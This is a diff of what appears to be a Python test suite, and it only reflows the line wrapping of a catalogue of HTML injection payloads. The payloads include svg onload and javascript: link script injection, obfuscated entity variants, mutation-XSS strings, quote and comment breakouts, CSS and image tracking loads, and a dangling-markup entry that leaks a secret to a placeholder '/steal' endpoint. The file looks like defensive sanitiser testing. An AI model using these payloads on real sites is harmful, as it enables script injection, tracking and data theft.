@@ -30,7 +30,9 @@ def _rewritten(html: str) -> str:
     """Parsed where nothing runs, written as text, and parsed again: what a sanitiser in the page does."""
     text = json.dumps(html).replace("<", "\\u003c")
     parsed = f'new DOMParser().parseFromString({text}, "text/html").body.innerHTML'
-    return f"<div id=here></div><script>document.getElementById('here').innerHTML = {parsed}</script>"
+    return (
+        f"<div id=here></div><script>document.getElementById('here').innerHTML = {parsed}</script>"
+    )
 
 
 WAYS: Final[dict[str, Callable[[str], str]]] = {
@@ -40,7 +42,9 @@ WAYS: Final[dict[str, Callable[[str], str]]] = {
     "quotes": lambda html: f'<iframe srcdoc="{html}"></iframe>',
     "apostrophes": lambda html: f"<iframe srcdoc='{html}'></iframe>",
     "decoded": lambda html: f'<iframe srcdoc="{escaping.unescape(html)}"></iframe>',
-    "decoded twice": lambda html: f'<iframe srcdoc="{escaping.unescape(escaping.unescape(html))}"></iframe>',
+    "decoded twice": lambda html: (
+        f'<iframe srcdoc="{escaping.unescape(escaping.unescape(html))}"></iframe>'
+    ),
     "nested raw": lambda html: f"<iframe srcdoc=\"<iframe srcdoc='{html}'></iframe>\"></iframe>",
     "comment": lambda html: f"<!-- {html} -->",
     "textarea": lambda html: f"<textarea>{html}</textarea>",
@@ -69,7 +73,12 @@ SCRIPTS: Final = (
         '<script type=importmap>{"imports":{"x":"{u}/x.js"}}</script><script type=module>import "x"</script>',
         way="page",
     ),
-    Attack("script-in-script", "script", "<scr<script></script>ipt>{ran}</scr<script></script>ipt>", way="cleaned"),
+    Attack(
+        "script-in-script",
+        "script",
+        "<scr<script></script>ipt>{ran}</scr<script></script>ipt>",
+        way="cleaned",
+    ),
     Attack("script-nul", "script", "<scr\0ipt>{ran}</scr\0ipt>", way="without NUL"),
     Attack("script-bom", "script", "\ufeff<script>{ran}</script>"),
     Attack(
@@ -78,11 +87,22 @@ SCRIPTS: Final = (
         "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>{ran}</script>",
     ),
     Attack("svg-script", "script", "<svg><script>{ran}</script></svg>"),
-    Attack("svg-script-entity", "script", "<svg><script>&#99;onsole.log(/ran:svg-script-entity/)</script></svg>"),
+    Attack(
+        "svg-script-entity",
+        "script",
+        "<svg><script>&#99;onsole.log(/ran:svg-script-entity/)</script></svg>",
+    ),
     Attack("svg-script-href", "script", '<svg><script href="{u}/x.js"></script></svg>'),
     Attack("svg-onload", "script", '<svg onload="{ran}">'),
-    Attack("svg-animate-onbegin", "script", '<svg><animate onbegin="{ran}" attributeName=x dur=1s>'),
-    Attack("svg-link", "script", '<svg><a xlink:href="javascript:{ran}"><text y=20>press</text></a></svg>', "left"),
+    Attack(
+        "svg-animate-onbegin", "script", '<svg><animate onbegin="{ran}" attributeName=x dur=1s>'
+    ),
+    Attack(
+        "svg-link",
+        "script",
+        '<svg><a xlink:href="javascript:{ran}"><text y=20>press</text></a></svg>',
+        "left",
+    ),
     Attack(
         "svg-animate-href",
         "script",
@@ -126,7 +146,9 @@ SCRIPTS: Final = (
         '<dialog open><form method=dialog onsubmit="{ran}"><button>press</button></form></dialog>',
         "left",
     ),
-    Attack("shadow-root", "script", f"<div><template shadowrootmode=open>{_BROKEN}</template></div>"),
+    Attack(
+        "shadow-root", "script", f"<div><template shadowrootmode=open>{_BROKEN}</template></div>"
+    ),
     Attack("iframe-onload", "script", '<iframe onload="{ran}"></iframe>'),
     Attack("iframe-srcdoc", "script", '<iframe srcdoc="<script>{ran}</script>"></iframe>'),
     Attack("iframe-javascript", "script", '<iframe src="javascript:{ran}"></iframe>'),
@@ -153,8 +175,15 @@ LINKS: Final = (
     Attack("link-javascript-enter", "script", '<a href="javascript:{ran}">press</a>', "enter"),
     Attack("link-javascript-tab", "script", '<a href="java&#9;script:{ran}">press</a>', "left"),
     Attack("link-javascript-newline", "script", '<a href="java\nscript:{ran}">press</a>', "left"),
-    Attack("link-javascript-entity", "script", '<a href="&#x6A;avascript&colon;{ran}">press</a>', "left"),
-    Attack("link-javascript-control", "script", '<a href="&#1;&#32;javascript:{ran}">press</a>', "left"),
+    Attack(
+        "link-javascript-entity",
+        "script",
+        '<a href="&#x6A;avascript&colon;{ran}">press</a>',
+        "left",
+    ),
+    Attack(
+        "link-javascript-control", "script", '<a href="&#1;&#32;javascript:{ran}">press</a>', "left"
+    ),
     Attack("link-data", "script", f'<a href="{_DOCUMENT}">press</a>', "left"),
     Attack("link-plain", "frame", '<a href="{u}/go">press</a>', "left"),
     Attack("link-middle", "/go", '<a href="{u}/go">press</a>', "middle"),
@@ -164,20 +193,46 @@ LINKS: Final = (
     Attack("link-top", "page", '<a href="{u}/go" target=_top>press</a>', "left"),
     Attack("link-blank", "popup", '<a href="{u}/go" target=_blank>press</a>', "left"),
     Attack("link-named", "popup", '<a href="{u}/go" target=elsewhere>press</a>', "left"),
-    Attack("link-frame", "frame", '<iframe name=x></iframe><a href="{u}/go" target=x>press</a>', "left"),
-    Attack("link-opener", "page", '<a href="{u}/x.opener" target=_blank rel=opener>press</a>', "left", way="page"),
-    Attack("link-over-all", "frame", '<a href="{u}/go" style="position:fixed;inset:0">press</a>', "left"),
+    Attack(
+        "link-frame", "frame", '<iframe name=x></iframe><a href="{u}/go" target=x>press</a>', "left"
+    ),
+    Attack(
+        "link-opener",
+        "page",
+        '<a href="{u}/x.opener" target=_blank rel=opener>press</a>',
+        "left",
+        way="page",
+    ),
+    Attack(
+        "link-over-all",
+        "frame",
+        '<a href="{u}/go" style="position:fixed;inset:0">press</a>',
+        "left",
+    ),
     Attack("link-ping", "/ping", '<a href="{u}/go" ping="{u}/ping">press</a>', "left"),
-    Attack("link-download", "download", '<a href="data:application/octet-stream,x" download=x.exe>press</a>', "left"),
+    Attack(
+        "link-download",
+        "download",
+        '<a href="data:application/octet-stream,x" download=x.exe>press</a>',
+        "left",
+    ),
     Attack("link-attachment", "download", '<a href="{u}/file.bin">press</a>', "left"),
     Attack("link-slashes", "frame", '<a href="\\\\{host}\\go">press</a>', "left"),
     Attack(
-        "link-transition", "frame", '<style>@view-transition{navigation:auto}</style><a href="{u}/go">press</a>', "left"
+        "link-transition",
+        "frame",
+        '<style>@view-transition{navigation:auto}</style><a href="{u}/go">press</a>',
+        "left",
     ),
     Attack("base-target", "page", '<base target=_top><a href="{u}/go">press</a>', "left"),
     Attack("base-href", "frame", '<base href="{u}/"><a href="go">press</a>', "left"),
     Attack("map-area", "frame", MAP + '<area shape=default href="{u}/go"></map>', "left"),
-    Attack("map-javascript", "script", MAP + '<area shape=default href="javascript:{ran}"></map>', "left"),
+    Attack(
+        "map-javascript",
+        "script",
+        MAP + '<area shape=default href="javascript:{ran}"></map>',
+        "left",
+    ),
     Attack("refresh", "frame", '<meta http-equiv=refresh content="0;url={u}/go">'),
     Attack("refresh-bare", "frame", "<p>x</p><meta http-equiv=REFRESH content=\"0, '{u}/go'\">"),
     Attack("refresh-data", "script", f'<meta http-equiv=refresh content="0;url={_DOCUMENT}">'),
@@ -185,8 +240,15 @@ LINKS: Final = (
     Attack("script-top", "page", "<script>top.location = '{u}/go'</script>", way="page"),
 )
 FORMS: Final = (
-    Attack("form", "frame", '<form action="{u}/go"><input name=q value=1><button>press</button></form>', "left"),
-    Attack("form-post", "frame", '<form action="{u}/go" method=post><input type=submit></form>', "left"),
+    Attack(
+        "form",
+        "frame",
+        '<form action="{u}/go"><input name=q value=1><button>press</button></form>',
+        "left",
+    ),
+    Attack(
+        "form-post", "frame", '<form action="{u}/go" method=post><input type=submit></form>', "left"
+    ),
     Attack("form-enter", "frame", '<form action="{u}/go"><input name=q autofocus></form>', "enter"),
     Attack(
         "form-label",
@@ -194,33 +256,101 @@ FORMS: Final = (
         '<form action="{u}/go"><label for=b>press</label><input type=submit id=b hidden></form>',
         "left",
     ),
-    Attack("form-javascript", "script", '<form action="javascript:{ran}"><button>press</button></form>', "left"),
-    Attack("form-top", "page", '<form action="{u}/go" target=_top><button>press</button></form>', "left"),
-    Attack("form-blank", "popup", '<form action="{u}/go" target=_blank><button>press</button></form>', "left"),
-    Attack("form-far", "frame", '<form id=f action="{u}/go"></form><button form=f>press</button>', "left"),
-    Attack("formaction", "frame", '<form><button formaction="{u}/go">press</button></form>', "left"),
-    Attack("formaction-javascript", "script", '<form><input type=submit formaction="javascript:{ran}"></form>', "left"),
-    Attack("formtarget", "page", '<form action="{u}/go"><button formtarget=_top>press</button></form>', "left"),
     Attack(
-        "form-nested", "frame", '<form><div></form><form action="{u}/go"><button>press</button></form></div>', "left"
+        "form-javascript",
+        "script",
+        '<form action="javascript:{ran}"><button>press</button></form>',
+        "left",
+    ),
+    Attack(
+        "form-top",
+        "page",
+        '<form action="{u}/go" target=_top><button>press</button></form>',
+        "left",
+    ),
+    Attack(
+        "form-blank",
+        "popup",
+        '<form action="{u}/go" target=_blank><button>press</button></form>',
+        "left",
+    ),
+    Attack(
+        "form-far",
+        "frame",
+        '<form id=f action="{u}/go"></form><button form=f>press</button>',
+        "left",
+    ),
+    Attack(
+        "formaction", "frame", '<form><button formaction="{u}/go">press</button></form>', "left"
+    ),
+    Attack(
+        "formaction-javascript",
+        "script",
+        '<form><input type=submit formaction="javascript:{ran}"></form>',
+        "left",
+    ),
+    Attack(
+        "formtarget",
+        "page",
+        '<form action="{u}/go"><button formtarget=_top>press</button></form>',
+        "left",
+    ),
+    Attack(
+        "form-nested",
+        "frame",
+        '<form><div></form><form action="{u}/go"><button>press</button></form></div>',
+        "left",
     ),
 )
 LOADS: Final = (
     Attack("img", "/img.gif", '<img src="{u}/img.gif">', is_image=True),
     Attack("img-lazy", "/img.gif", '<img loading=lazy src="{u}/img.gif">', is_image=True),
     Attack("img-srcset", "/img.gif", '<img srcset="{u}/img.gif 1x">', is_image=True),
-    Attack("picture", "/img.gif", '<picture><source srcset="{u}/img.gif"><img></picture>', is_image=True),
-    Attack("img-slashes", "/img.gif", '<img src="\\\\{host}\\img.gif">'),  # without a scheme: nowhere, in a mail
+    Attack(
+        "picture",
+        "/img.gif",
+        '<picture><source srcset="{u}/img.gif"><img></picture>',
+        is_image=True,
+    ),
+    Attack(
+        "img-slashes", "/img.gif", '<img src="\\\\{host}\\img.gif">'
+    ),  # without a scheme: nowhere, in a mail
     Attack("img-relative-scheme", "/img.gif", '<img src="//{host}/img.gif">'),
-    Attack("img-huge-attribute", "/img.gif", f'<img alt="{"A" * 300_000}" src="{{u}}/img.gif">', is_image=True),
+    Attack(
+        "img-huge-attribute",
+        "/img.gif",
+        f'<img alt="{"A" * 300_000}" src="{{u}}/img.gif">',
+        is_image=True,
+    ),
     Attack("img-surrogate", "/img.gif", '<img title="\ud800" src="{u}/img.gif">', is_image=True),
-    Attack("img-conditional", "/img.gif", '<![if !mso]><img src="{u}/img.gif"><![endif]>', is_image=True),
-    Attack("img-noscript", "/img.gif", '<noscript><img src="{u}/img.gif"></noscript>', way="sandbox", is_image=True),
+    Attack(
+        "img-conditional",
+        "/img.gif",
+        '<![if !mso]><img src="{u}/img.gif"><![endif]>',
+        is_image=True,
+    ),
+    Attack(
+        "img-noscript",
+        "/img.gif",
+        '<noscript><img src="{u}/img.gif"></noscript>',
+        way="sandbox",
+        is_image=True,
+    ),
     Attack("img-swallows", "/steal", "<img src='{u}/steal?", way="before a secret"),
     Attack("input-image", "/img.gif", '<input type=image src="{u}/img.gif">', is_image=True),
     Attack("body-background", "/img.gif", '<body background="{u}/img.gif">', is_image=True),
-    Attack("table-background", "/img.gif", '<table background="{u}/img.gif"><td>x</table>', is_image=True),
-    Attack("svg-image", "/img.gif", '<svg><image href="{u}/img.gif" width=9 height=9 /></svg>', is_image=True),
+    Attack(
+        "table-background",
+        "/img.gif",
+        '<table background="{u}/img.gif"><td>x</table>',
+        is_image=True,
+    ),
+    Attack(
+        "svg-image",
+        "/img.gif",
+        '<svg><image href="{u}/img.gif" width=9 height=9 /></svg>',
+        is_image=True,
+    ),
     Attack(
         "svg-feimage",
         "/img.gif",
@@ -231,7 +361,11 @@ LOADS: Final = (
     Attack("video", "/video", '<video src="{u}/video"></video>'),
     Attack("audio", "/audio", '<audio src="{u}/audio"></audio>'),
     Attack("source", "/video", '<video><source src="{u}/video"></video>'),
-    Attack("track", "/x.vtt", '<video crossorigin src="data:video/mp4,x"><track default src="{u}/x.vtt"></video>'),
+    Attack(
+        "track",
+        "/x.vtt",
+        '<video crossorigin src="data:video/mp4,x"><track default src="{u}/x.vtt"></video>',
+    ),
     Attack("iframe-src", "/go", '<iframe src="{u}/go"></iframe>'),
     Attack("frameset", "/go", '<frameset><frame src="{u}/go"></frameset>'),
     Attack("object", "/object", '<object data="{u}/object"></object>'),
@@ -244,21 +378,56 @@ LOADS: Final = (
     Attack("link-icon", "/icon.gif", '<link rel=icon href="{u}/icon.gif">', way="page"),
     Attack("css-import", "/x.css", '<style>@import "{u}/x.css";</style>'),
     Attack("css-import-layer", "/x.css", "<style>@import url({u}/x.css) layer(a);</style>"),
-    Attack("css-font", "/font", "<style>@font-face{font-family:f;src:url({u}/font)}p{font-family:f}</style><p>x"),
-    Attack("css-background", "/img.gif", '<p style="background:url({u}/img.gif)">x', is_image=True),
-    Attack("css-escaped", "/img.gif", '<p style="background:\\75 \\72l({u}/img.gif)">x', is_image=True),
-    Attack("css-var", "/img.gif", '<p style="--a:url({u}/img.gif);background:var(--a)">x', is_image=True),
-    Attack("css-image-set", "/img.gif", "<p style=\"background:image-set('{u}/img.gif' 1x)\">x", is_image=True),
-    Attack("css-list-style", "/img.gif", '<li style="list-style:url({u}/img.gif)">x', is_image=True),
-    Attack("css-content", "/img.gif", "<style>p::after{content:url({u}/img.gif)}</style><p>x", is_image=True),
     Attack(
-        "css-border-image", "/img.gif", '<p style="border:1px solid;border-image:url({u}/img.gif) 1">x', is_image=True
+        "css-font",
+        "/font",
+        "<style>@font-face{font-family:f;src:url({u}/font)}p{font-family:f}</style><p>x",
+    ),
+    Attack("css-background", "/img.gif", '<p style="background:url({u}/img.gif)">x', is_image=True),
+    Attack(
+        "css-escaped", "/img.gif", '<p style="background:\\75 \\72l({u}/img.gif)">x', is_image=True
     ),
     Attack(
-        "css-cursor", "/img.gif", '<p onclick=1 style="cursor:url({u}/img.gif),auto">press</p>', "left", is_image=True
+        "css-var",
+        "/img.gif",
+        '<p style="--a:url({u}/img.gif);background:var(--a)">x',
+        is_image=True,
+    ),
+    Attack(
+        "css-image-set",
+        "/img.gif",
+        "<p style=\"background:image-set('{u}/img.gif' 1x)\">x",
+        is_image=True,
+    ),
+    Attack(
+        "css-list-style", "/img.gif", '<li style="list-style:url({u}/img.gif)">x', is_image=True
+    ),
+    Attack(
+        "css-content",
+        "/img.gif",
+        "<style>p::after{content:url({u}/img.gif)}</style><p>x",
+        is_image=True,
+    ),
+    Attack(
+        "css-border-image",
+        "/img.gif",
+        '<p style="border:1px solid;border-image:url({u}/img.gif) 1">x',
+        is_image=True,
+    ),
+    Attack(
+        "css-cursor",
+        "/img.gif",
+        '<p onclick=1 style="cursor:url({u}/img.gif),auto">press</p>',
+        "left",
+        is_image=True,
     ),
     Attack("css-mask", "/img.gif", '<p style="mask:url({u}/img.gif)">x', is_image=True),
-    Attack("css-shape", "/img.gif", '<p style="float:left;shape-outside:url({u}/img.gif)">x', is_image=True),
+    Attack(
+        "css-shape",
+        "/img.gif",
+        '<p style="float:left;shape-outside:url({u}/img.gif)">x',
+        is_image=True,
+    ),
     Attack("css-clip-path", "/x.svg", '<p style="clip-path:url({u}/x.svg#p)">x', is_image=True),
     Attack(
         "css-reads-values",
@@ -271,14 +440,24 @@ BREAKOUTS: Final = (
     Attack("out-of-quotes", "script", f'"></iframe>{_BROKEN}', way="quotes"),
     Attack("out-of-apostrophes", "script", f"'></iframe>{_BROKEN}", way="apostrophes"),
     Attack("out-form-feed", "script", f'"\f></iframe\f>{_BROKEN}', way="quotes"),
-    Attack("out-entities", "script", "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;", way="decoded"),
+    Attack(
+        "out-entities",
+        "script",
+        "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;",
+        way="decoded",
+    ),
     Attack(
         "out-entities-twice",
         "script",
         "&amp;quot;&amp;gt;&amp;lt;/iframe&amp;gt;&amp;lt;script&amp;gt;{ran}&amp;lt;/script&amp;gt;",
         way="decoded twice",
     ),
-    Attack("out-inner-frame", "script", "&#39;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;", way="nested raw"),
+    Attack(
+        "out-inner-frame",
+        "script",
+        "&#39;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;",
+        way="nested raw",
+    ),
     Attack("out-of-comment", "script", "--><script>{ran}</script>", way="comment"),
     Attack("out-of-comment-bang", "script", "--!><script>{ran}</script>", way="comment"),
     Attack("out-of-cdata", "script", "]]><script>{ran}</script>", way="cdata"),
@@ -291,16 +470,27 @@ BREAKOUTS: Final = (
         for tag in ("style", "title", "textarea", "xmp", "noembed", "noframes", "noscript")
     ),
     Attack("comment-ends-early", "script", "<!--><script>{ran}</script>-->"),
-    Attack("mutates-svg-style", "script", f"<svg></p><style><a id='</style>{_BROKEN}'>", way="rewritten"),
     Attack(
-        "mutates-mglyph", "script", f"<form><math><mtext></form><form><mglyph><style></math>{_BROKEN}", way="rewritten"
+        "mutates-svg-style",
+        "script",
+        f"<svg></p><style><a id='</style>{_BROKEN}'>",
+        way="rewritten",
+    ),
+    Attack(
+        "mutates-mglyph",
+        "script",
+        f"<form><math><mtext></form><form><mglyph><style></math>{_BROKEN}",
+        way="rewritten",
     ),
 )
 QUIET: Final = (
     *MUTATIONS,
     Attack("marquee-onstart", "", '<marquee onstart="{ran}">x</marquee>'),
     Attack(
-        "refresh-noscript", "", '<noscript><meta http-equiv=refresh content="0;url={u}/go"></noscript>', way="sandbox"
+        "refresh-noscript",
+        "",
+        '<noscript><meta http-equiv=refresh content="0;url={u}/go"></noscript>',
+        way="sandbox",
     ),
     Attack("svg-use", "", '<svg><use href="{u}/x.svg#p" /></svg>'),
     Attack("css-filter", "", '<p style="filter:url({u}/x.svg#f)">x'),
@@ -312,8 +502,17 @@ QUIET: Final = (
         '<script type=speculationrules>{"prefetch":[{"urls":["{u}/go"],"eagerness":"immediate"}]}</script>',
         way="page",
     ),
-    Attack("mutates-noscript", "", f"<noscript><p title='</noscript>{_BROKEN}'></noscript>", way="rewritten"),
-    Attack("applet", "", '<applet code="{u}/x.class" archive="{u}/x.jar"><param name=src value="{u}/p"></applet>'),
+    Attack(
+        "mutates-noscript",
+        "",
+        f"<noscript><p title='</noscript>{_BROKEN}'></noscript>",
+        way="rewritten",
+    ),
+    Attack(
+        "applet",
+        "",
+        '<applet code="{u}/x.class" archive="{u}/x.jar"><param name=src value="{u}/p"></applet>',
+    ),
     Attack("object-param", "", '<object type=text/html><param name=src value="{u}/p"></object>'),
     Attack("embed-javascript", "", '<embed src="javascript:{ran}">'),
     Attack("link-vbscript", "", '<a href="vbscript:{ran}">press</a>', "left"),
@@ -338,7 +537,11 @@ QUIET: Final = (
         "",
         "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{ran}'/>\">",
     ),
-    Attack("css-visited", "", '<style>a:visited{background:url({u}/img.gif)}</style><a href="about:blank">press</a>'),
+    Attack(
+        "css-visited",
+        "",
+        '<style>a:visited{background:url({u}/img.gif)}</style><a href="about:blank">press</a>',
+    ),
     Attack(
         "css-javascript",
         "",
